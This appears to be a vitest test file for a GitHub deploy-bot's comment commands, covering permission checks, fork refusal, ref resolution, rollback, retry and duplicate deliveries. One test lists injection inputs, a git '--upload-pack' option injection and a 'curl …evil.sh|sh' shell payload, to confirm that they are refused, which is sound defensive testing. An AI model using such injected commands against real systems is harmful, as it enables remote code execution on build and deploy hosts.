/**
 * `/deploy-bot` commands carried out against a real store (PGlite + pg-boss), with nock for GitHub: who may,
 * which commit, what starts, what is refused and why, and that a redelivery does nothing twice.
 */
import nock from "nock";
import { describe, expect, it } from "vitest";
import { isIgnored } from "../../src/events/deploy-event.ts";
import { type CommentCommand, normaliseComment } from "../../src/events/normalise-comment.ts";
import { COMMAND_FEEDBACK_TOPIC, commandFeedbackHandler } from "../../src/flow/command-feedback.ts";
import { type CommandDeps, runCommand } from "../../src/flow/run-command.ts";
import { createCommentUpserter } from "../../src/report/comment-upserter.ts";
import type { OctokitLike } from "../../src/report/octokit-like.ts";
import { COMMENT_MARKER } from "../../src/report/render-comment.ts";
import { useFlowStore } from "../helpers/flow-store.ts";
import { issueCommentPayload } from "../helpers/webhooks.ts";
import { delivery, run } from "../queue/fixtures.ts";
import { API, configOf, testOctokit } from "../security/security-harness.ts";

const REPO = "/repos/Codertocat/Hello-World";
const HEAD = "1111111111111111111111111111111111111111";
const OLD = "2222222222222222222222222222222222222222";
const CONFIG = configOf(`
version: 1
pipelines:
  test:
    steps: [{ name: Unit tests, run: npm test }]
  deploy-staging:
    environment: staging
    steps: [{ name: Deploy, run: ./deploy.sh }]
  deploy-production:
    environment: production
    manual: true
    deployers: [alice]
    steps: [{ name: Deploy, run: ./deploy.sh }]
rules:
  - name: main
    on: { push: { branches: [main] } }
    run: [test, deploy-production]
`);

const flow = useFlowStore("command-test-worker");
let deliveries = 0;

const deps = (): CommandDeps => ({
  config: () => CONFIG,
  octokitFor: async () => testOctokit() as unknown as OctokitLike,
  store: flow.t.store,
  report: (r) => flow.reported.push(r),
  logger: { info() {}, warn() {} },
});

function comment(
  body: string,
  options: { login?: string; pr?: boolean; id?: string; commentId?: number } = {},
) {
  deliveries += 1;
  const parsed = normaliseComment(
    options.id ?? `comment-delivery-${deliveries}`,
    issueCommentPayload(() => {}, {
      body,
      number: 2,
      pullRequest: options.pr ?? true,
      login: options.login ?? "alice",
      commentId: options.commentId ?? 900 + deliveries,
    }),
  );
  if (isIgnored(parsed)) throw new Error(parsed.reason);
  return parsed;
}

const github = () => nock(API);
const eyes = (scope: nock.Scope, c: CommentCommand) =>
  scope
    .post(`${REPO}/issues/comments/${c.commentId}/reactions`, { content: "eyes" })
    .reply(201, { id: 1, content: "eyes" });
const permission = (scope: nock.Scope, user: string, level: string, role = level) =>
  scope
    .get(`${REPO}/collaborators/${user}/permission`)
    .reply(200, { permission: level, role_name: role, user: { login: user } });
const pull = (scope: nock.Scope, sha = HEAD, headRepo: string | null = "Codertocat/Hello-World") =>
  scope.get(`${REPO}/pulls/2`).reply(200, {
    number: 2,
    state: "open",
    title: "Update the README",
    draft: false,
    head: { sha, ref: "changes", repo: headRepo === null ? null : { full_name: headRepo, id: 1 } },
    base: { ref: "main", repo: { full_name: "Codertocat/Hello-World", id: 1 } },
  });

const feedbackOf = async (deliveryId: string) =>
  (
    await flow.t.db.query<{ payload: Record<string, unknown> }>(
      "SELECT payload FROM outbox WHERE topic = $1 AND key = $2",
      [COMMAND_FEEDBACK_TOPIC, deliveryId],
    )
  ).map((row) => row.payload);

describe("/deploy-bot commands", () => {
  it("a writer's `deploy staging` on a PR runs the staging pipeline at the head SHA read from the API", async () => {
    const c = comment("/deploy-bot deploy staging\nthanks!");
    const scope = github();
    eyes(scope, c);
    permission(scope, "alice", "write");
    pull(scope);
    const result = await runCommand(deps(), c);
    expect(result).toMatchObject({
      outcome: "accepted",
      summary: "deploy deploy-staging to staging at 1111111",
    });
    expect(scope.isDone()).toBe(true);
    const runs = await flow.claimable();
    expect(runs.map((r) => [r.pipeline, r.environment, r.event.sha, r.event.kind])).toEqual([
      ["deploy-staging", "staging", HEAD, "pull_request"],
    ]);
    expect(runs[0]?.event.command).toEqual({
      text: "/deploy-bot deploy staging",
      by: "alice",
      issueNumber: 2,
    });
    expect(flow.reported.map((r) => r.id)).toEqual([runs[0]?.id]);
    expect(await feedbackOf(c.deliveryId)).toEqual([
      {
        installationId: c.installationId,
        owner: "Codertocat",
        repo: "Hello-World",
        issueNumber: 2,
        commentId: c.commentId,
        reaction: "rocket",
        note: "🚀 `/deploy-bot deploy staging` by @\u200balice: deploy deploy-staging to staging at 1111111.",
        deliveryId: c.deliveryId,
      },
    ]);
    expect(flow.unmatched).toEqual([]);
  });

  it("the feedback reacts rocket and writes the one comment with the runs and the note", async () => {
    const c = comment("/deploy-bot deploy staging");
    const scope = github();
    eyes(scope, c);
    permission(scope, "alice", "admin");
    pull(scope);
    await runCommand(deps(), c);
    const [payload] = await feedbackOf(c.deliveryId);
    const posted: string[] = [];
    scope
      .post(`${REPO}/issues/comments/${c.commentId}/reactions`, { content: "rocket" })
      .reply(201, {})
      .get(`${REPO}/issues/2/comments`)
      .query(true)
      .reply(200, [{ id: 5, body: `${COMMENT_MARKER}\nold`, user: { type: "Bot" } }])
      .patch(`${REPO}/issues/comments/5`, (body: { body: string }) => {
        posted.push(body.body);
        return true;
      })
      .reply(200, { id: 5 });
    const handler = commandFeedbackHandler({
      octokitFor: async () => testOctokit() as unknown as OctokitLike,
      runsForDelivery: (id) => flow.t.store.runsForDelivery(id),
      latestRunsOn: (repo, n) => flow.t.store.latestRunsOn(repo, n),
      comments: createCommentUpserter(),
      runUrl: (id) => `https://bot.example/runs/${id}`,
    });
    const delivered = await handler({
      id: "1",
      topic: COMMAND_FEEDBACK_TOPIC,
      key: c.deliveryId,
      payload,
      attempts: 0,
      createdAt: new Date(),
    });
    expect(delivered).toEqual({ ok: true });
    expect(scope.isDone()).toBe(true);
    const [runId] = (await flow.t.store.runsForDelivery(c.deliveryId)).map((r) => r.id);
    expect(posted[0]).toContain("Started by @\u200balice with `/deploy-bot deploy staging`.");
    expect(posted[0]).toContain(
      `| deploy-staging (staging) | ⏳ Queued | — | [details](https://bot.example/runs/${runId}) |`,
    );
    expect(posted[0]).toContain(
      "🚀 `/deploy-bot deploy staging` by @\u200balice: deploy deploy-staging to staging at 1111111.",
    );
  });

  it("feedback on an issue with no runs creates the one comment; a deleted command comment gets no reaction", async () => {
    const handler = commandFeedbackHandler({
      octokitFor: async () => testOctokit() as unknown as OctokitLike,
      runsForDelivery: (id) => flow.t.store.runsForDelivery(id),
      latestRunsOn: async () => [],
      comments: createCommentUpserter(),
      runUrl: () => undefined,
    });
    const created: string[] = [];
    const scope = github()
      .post(`${REPO}/issues/comments/77/reactions`, { content: "confused" })
      .reply(404, { message: "Not Found" })
      .get(`${REPO}/issues/9/comments`)
      .query(true)
      .reply(200, [])
      .post(`${REPO}/issues/9/comments`, (body: { body: string }) => {
        created.push(body.body);
        return true;
      })
      .reply(201, { id: 8 });
    const message = (payload: unknown) => ({
      id: "2",
      topic: COMMAND_FEEDBACK_TOPIC,
      key: "k",
      payload,
      attempts: 0,
      createdAt: new Date(),
    });
    const payload = {
      installationId: 1,
      owner: "Codertocat",
      repo: "Hello-World",
      issueNumber: 9,
      commentId: 77,
      reaction: "confused",
      note: "😕 refused",
      deliveryId: null,
    };
    expect(await handler(message(payload))).toEqual({ ok: true });
    expect(scope.isDone()).toBe(true);
    expect(created).toEqual([`${COMMENT_MARKER}\n### deploy-bot\n\n😕 refused\n`]);

    // GitHub failing is retried later; the drainer backs off.
    github().post(`${REPO}/issues/comments/77/reactions`).reply(502, { message: "Bad Gateway" });
    expect(await handler(message(payload))).toMatchObject({ ok: false, retryable: true });
  });

  it.each([
    ["read", "read", "@alice has read access; deploy needs write access"],
    ["triage", "read", "@alice has read access; deploy needs write access"],
    ["none", "none", "@alice has none access; deploy needs write access"],
  ])("refuses a user with %s access, confused, and runs nothing", async (role, level, reason) => {
    const c = comment("/deploy-bot deploy staging");
    const scope = github();
    eyes(scope, c);
    permission(scope, "alice", level, role);
    expect(await runCommand(deps(), c)).toEqual({ outcome: "refused", reason });
    expect(scope.isDone()).toBe(true);
    expect(await flow.claimable()).toEqual([]);
    expect(await feedbackOf(c.deliveryId)).toMatchObject([{ reaction: "confused", deliveryId: null }]);
    expect(flow.unmatched).toEqual([]);
  });

  it("says so when GitHub cannot be asked, and runs nothing", async () => {
    const c = comment("/deploy-bot deploy staging");
    const scope = github();
    eyes(scope, c);
    scope.get(`${REPO}/collaborators/alice/permission`).reply(502, { message: "Bad Gateway" });
    expect(await runCommand(deps(), c)).toEqual({
      outcome: "refused",
      reason: "the bot could not check it with GitHub (502); comment the command again",
    });
    expect(scope.isDone()).toBe(true);
    expect(await feedbackOf(c.deliveryId)).toMatchObject([{ reaction: "confused" }]);
  });

  it("refuses someone who is not a collaborator at all (404)", async () => {
    const c = comment("/deploy-bot rollback staging", { login: "stranger" });
    const scope = github();
    eyes(scope, c);
    scope.get(`${REPO}/collaborators/stranger/permission`).reply(404, { message: "Not Found" });
    expect(await runCommand(deps(), c)).toEqual({
      outcome: "refused",
      reason: "@stranger has no access; rollback needs write access",
    });
    expect(scope.isDone()).toBe(true);
  });

  it("a redelivered command does nothing at all, not even a reaction", async () => {
    const c = comment("/deploy-bot deploy staging", { id: "replayed-delivery" });
    const scope = github();
    eyes(scope, c);
    permission(scope, "alice", "write");
    pull(scope);
    expect((await runCommand(deps(), c)).outcome).toBe("accepted");
    expect(scope.isDone()).toBe(true);
    expect(await runCommand(deps(), c)).toEqual({ outcome: "duplicate" });
    expect(flow.unmatched).toEqual([]);
    expect(await flow.t.store.runsForDelivery(c.deliveryId)).toHaveLength(1);
    expect(await feedbackOf(c.deliveryId)).toHaveLength(1);
  });

  it("never deploys a fork's pull request", async () => {
    const c = comment("/deploy-bot deploy staging");
    const scope = github();
    eyes(scope, c);
    permission(scope, "alice", "write");
    pull(scope, HEAD, "octo-fork/Hello-World");
    expect(await runCommand(deps(), c)).toEqual({
      outcome: "refused",
      reason: "this pull request comes from a fork: its code is never deployed by command",
    });
    expect(scope.isDone()).toBe(true);
    expect(await flow.claimable()).toEqual([]);
  });

  it("`deployers` narrows who may deploy a pipeline", async () => {
    const c = comment("/deploy-bot deploy production main", { login: "bob", pr: false });
    const scope = github();
    eyes(scope, c);
    permission(scope, "bob", "admin");
    expect(await runCommand(deps(), c)).toEqual({
      outcome: "refused",
      reason: "only alice may deploy deploy-production",
    });
    expect(scope.isDone()).toBe(true);
  });

  it("on an issue, resolves the ref to an exact SHA now and records it", async () => {
    const c = comment("/deploy-bot deploy staging v1.0", { pr: false });
    const scope = github();
    eyes(scope, c);
    permission(scope, "alice", "write");
    scope.get(`${REPO}/commits/v1.0`).reply(200, { sha: OLD });
    expect(await runCommand(deps(), c)).toMatchObject({ outcome: "accepted" });
    expect(scope.isDone()).toBe(true);
    const runs = await flow.claimable();
    expect(runs.map((r) => [r.pipeline, r.event.sha, r.event.ref, r.event.kind])).toEqual([
      ["deploy-staging", OLD, "refs/heads/v1.0", "push"],
    ]);
    expect(runs[0]?.event.command?.issueNumber).toBe(2);
  });

  it.each([
    ["a ref that does not exist", 404, "no commit nope in Codertocat/Hello-World"],
    ["a SHA that does not exist", 422, "no commit nope in Codertocat/Hello-World"],
  ])("refuses %s", async (_what, status, reason) => {
    const c = comment("/deploy-bot deploy staging nope", { pr: false });
    const scope = github();
    eyes(scope, c);
    permission(scope, "alice", "write");
    scope.get(`${REPO}/commits/nope`).reply(status, { message: "No commit found" });
    expect(await runCommand(deps(), c)).toEqual({ outcome: "refused", reason });
    expect(scope.isDone()).toBe(true);
    expect(await flow.claimable()).toEqual([]);
  });

  it.each([
    [
      "/deploy-bot deploy staging",
      false,
      "on an issue, say what to deploy: /deploy-bot deploy <environment> <branch, tag or SHA>",
    ],
    [
      "/deploy-bot deploy staging main",
      true,
      "on a pull request, deploy runs its head commit: leave out the ref (or comment on an issue)",
    ],
    ["/deploy-bot deploy moon", true, "unknown environment moon (environments: production, staging)"],
    ["/deploy-bot retry", false, "retry works on pull requests (it runs their head commit again)"],
  ])("refuses %j (PR: %s) after checking the permission", async (body, pr, reason) => {
    const c = comment(body, { pr });
    const scope = github();
    eyes(scope, c);
    permission(scope, "alice", "write");
    expect(await runCommand(deps(), c)).toEqual({ outcome: "refused", reason });
    expect(scope.isDone()).toBe(true);
  });

  it.each([
    [
      "an option-like ref",
      "/deploy-bot deploy staging --upload-pack=touch$IFS/tmp/pwned",
      'ref "--upload-pack=touch$IFS/tmp/pwned" contains a character that is not allowed (give a branch, tag or commit SHA)',
    ],
    [
      "shell metacharacters",
      "/deploy-bot deploy staging;curl$IFSevil.sh|sh",
      "\"staging;curl$IFSevil.sh|sh\" is not a valid environment name (letters, digits, '.', '_', '-')",
    ],
    [
      "a huge comment",
      `/deploy-bot deploy ${"x".repeat(70_000)}`,
      "the command line is longer than 200 characters",
    ],
    ["an unknown command", "/deploy-bot nuke", 'unknown command "nuke"'],
    [
      "approve on an issue",
      "/deploy-bot approve",
      "approve works on pull requests from forks that await approval",
    ],
  ])("refuses %s without asking anything but a reaction", async (_what, body, reason) => {
    const c = comment(body, { pr: false });
    const scope = github();
    eyes(scope, c);
    expect(await runCommand(deps(), c)).toEqual({ outcome: "refused", reason });
    expect(scope.isDone()).toBe(true);
    expect(flow.unmatched).toEqual([]);
    const [feedback] = await feedbackOf(c.deliveryId);
    expect(feedback?.note).toContain("Valid commands: `/deploy-bot deploy <environment> [<ref>]`");
  });

  it("help answers without a permission check", async () => {
    const c = comment("/deploy-bot help", { login: "anyone" });
    const scope = github();
    eyes(scope, c);
    expect(await runCommand(deps(), c)).toMatchObject({ outcome: "accepted", runs: [] });
    expect(scope.isDone()).toBe(true);
    const [feedback] = await feedbackOf(c.deliveryId);
    expect(feedback).toMatchObject({ reaction: "rocket" });
    expect(feedback?.note).toContain("- `/deploy-bot rollback <environment>`");
  });

  it("rollback deploys again the previous successful commit, marked with what it replaces", async () => {
    for (const sha of [OLD, HEAD]) {
      const event = {
        ...(await import("../queue/fixtures.ts")).pushEvent({ sha, branch: "main" }),
        repo: {
          owner: "Codertocat",
          name: "Hello-World",
          fullName: "Codertocat/Hello-World",
          cloneUrl: "https://github.com/Codertocat/Hello-World.git",
          private: false,
        },
      };
      await flow.t.store.acceptDelivery(delivery(event, [run("deploy-staging", { environment: "staging" })]));
      for (const claimed of await flow.claimable())
        await flow.t.store.finishRun(claimed.id, { state: "passed", detail: "ok" });
    }
    const c = comment("/deploy-bot rollback staging");
    const scope = github();
    eyes(scope, c);
    permission(scope, "alice", "write");
    expect(await runCommand(deps(), c)).toMatchObject({
      outcome: "accepted",
      summary: "roll staging back to 2222222 (replacing 1111111)",
    });
    expect(scope.isDone()).toBe(true);
    const [rollback] = await flow.claimable();
    expect(rollback).toMatchObject({ pipeline: "deploy-staging", rollbackOf: HEAD, event: { sha: OLD } });
    expect(rollback?.event.command?.rollbackOf).toBe(HEAD);
  });

  it("retry runs again only what did not pass at the head, in order; what passed stays", async () => {
    const { pullRequestEvent } = await import("../queue/fixtures.ts");
    const event = pullRequestEvent({
      sha: HEAD,
      prNumber: 2,
      fork: false,
      headRepoFullName: "Codertocat/Hello-World",
      repo: {
        owner: "Codertocat",
        name: "Hello-World",
        fullName: "Codertocat/Hello-World",
        cloneUrl: "https://github.com/Codertocat/Hello-World.git",
        private: false,
      },
    });
    await flow.t.store.acceptDelivery(
      delivery(event, [
        run("build"),
        run("test", { needs: ["build"] }),
        run("deploy-staging", { needs: ["build", "test"], environment: "staging" }),
      ]),
    );
    const [build] = await flow.claimable();
    await flow.t.store.finishRun(build!.id, { state: "passed", detail: "ok" });
    const [test] = await flow.claimable();
    await flow.t.store.finishRun(test!.id, { state: "failed", detail: "Unit tests exited with 1" });

    const c = comment("/deploy-bot retry");
    const scope = github();
    eyes(scope, c);
    permission(scope, "alice", "write");
    pull(scope);
    const config = configOf(`
version: 1
pipelines:
  build: { steps: [{ name: Build, run: make }] }
  test: { steps: [{ name: Unit tests, run: npm test }] }
  deploy-staging: { environment: staging, steps: [{ name: Deploy, run: ./deploy.sh }] }
rules: []
`);
    const result = await runCommand({ ...deps(), config: () => config }, c);
    expect(result).toMatchObject({
      outcome: "accepted",
      summary: "run test, deploy-staging again at 1111111",
    });
    expect(scope.isDone()).toBe(true);
    const again = await flow.t.store.runsForDelivery(c.deliveryId);
    expect(again.map((r) => [r.pipeline, r.needs, r.state])).toEqual([
      ["test", [], "queued"],
      ["deploy-staging", ["test"], "queued"],
    ]);
    expect((await flow.claimable()).map((r) => r.pipeline)).toEqual(["test"]);
  });

  it("rollback with nothing to roll back to is refused", async () => {
    const c = comment("/deploy-bot rollback production");
    const scope = github();
    eyes(scope, c);
    permission(scope, "alice", "write");
    expect(await runCommand(deps(), c)).toEqual({
      outcome: "refused",
      reason: "nothing to roll back to: production has no successful deploy yet",
    });
    expect(scope.isDone()).toBe(true);
  });
});
